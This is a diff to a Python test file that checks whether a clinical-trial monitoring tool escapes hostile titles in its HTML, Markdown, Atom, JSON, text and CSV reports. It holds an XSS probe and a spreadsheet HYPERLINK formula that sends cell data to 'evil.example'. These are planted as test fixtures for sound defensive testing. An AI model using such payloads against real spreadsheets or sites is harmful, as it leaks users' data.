@@ -26,6 +26,7 @@ from pipeline.simulator.faults import SCRIPT_TITLE
 
 from test_faults_sim import write_config
 
+FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for results")'
 CONTROL_BYTES = {*range(0x00, 0x09), *range(0x0B, 0x20), 0x7F}  # newline and tab are layout
 
 
@@ -46,6 +47,7 @@ def hostile_db(tmp_path_factory):
         server.set_faults([
             {"match": "/api/v2/studies", "kind": "script_title", "trial": nct_script},
             {"match": "/Trial2.aspx", "kind": "script_title", "trial": nct_script},
+            {"match": "/api/v2/studies", "kind": "script_title", "trial": corpus.ids[2], "title": FORMULA_TITLE},
             {"match": "/api/v2/studies", "kind": "control_chars", "mode": "escaped", "trial": nct_control},
             {"match": "/Trial2.aspx", "kind": "control_chars", "trial": who_control},
         ])
@@ -102,3 +104,58 @@ def test_script_and_sql_text_is_plain_text_in_the_terminal(hostile_db):
 def test_printable(text, expected):
     assert printable(text) == expected
     assert short(text, 200) == expected
+
+
+# -- the report formats (issue 3) ---------------------------------------------------------------
+
+
+def _report(config, fmt):
+    result = trialwatch(config, "report", "--since", "7d", "--format", fmt)
+    assert result.returncode == 0, result.stderr
+    assert b"Traceback" not in result.stderr
+    return result.stdout
+
+
+def test_html_report_escapes_script_and_control_characters(hostile_db):
+    config = hostile_db[0]
+    out = _report(config, "html").decode("utf-8")
+    assert "<script>alert" not in out and "&lt;script&gt;alert(1)&lt;/script&gt;" in out
+    _no_control_bytes(out.replace("\n", "").replace("\t", "").encode())
+
+
+def test_markdown_report_escapes_markup(hostile_db):
+    config = hostile_db[0]
+    out = _report(config, "markdown").decode("utf-8")
+    assert "<script>" not in out and "\\<script\\>" in out
+    _no_control_bytes(out.replace("\n", "").encode())
+
+
+def test_atom_report_is_well_formed_xml(hostile_db):
+    import xml.etree.ElementTree as ET
+
+    config = hostile_db[0]
+    out = _report(config, "atom")
+    root = ET.fromstring(out)  # control characters XML forbids would make this fail
+    titles = [e.text or "" for e in root.iter() if e.tag.endswith("title")]
+    assert any("<script>alert(1)</script>" in t for t in titles) or b"&lt;script&gt;" in out
+
+
+def test_json_and_text_reports(hostile_db):
+    config = hostile_db[0]
+    doc = json.loads(_report(config, "json"))
+    assert any(r.get("new") == SCRIPT_TITLE for r in doc["changes"])
+    _no_control_bytes(_report(config, "text").replace(b"\n", b""))
+
+
+def test_csv_report_cannot_smuggle_a_spreadsheet_formula(hostile_db):
+    import csv
+    import io
+
+    config = hostile_db[0]
+    out = _report(config, "csv").decode("utf-8")
+    _no_control_bytes(out.replace("\r\n", "").encode())
+    rows = list(csv.DictReader(io.StringIO(out)))
+    cells = [v for r in rows for v in r.values() if v]
+    assert any("HYPERLINK" in v for v in cells)
+    dangerous = [v for v in cells if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert not dangerous, f"cells a spreadsheet would run as formulas: {dangerous[:3]}"
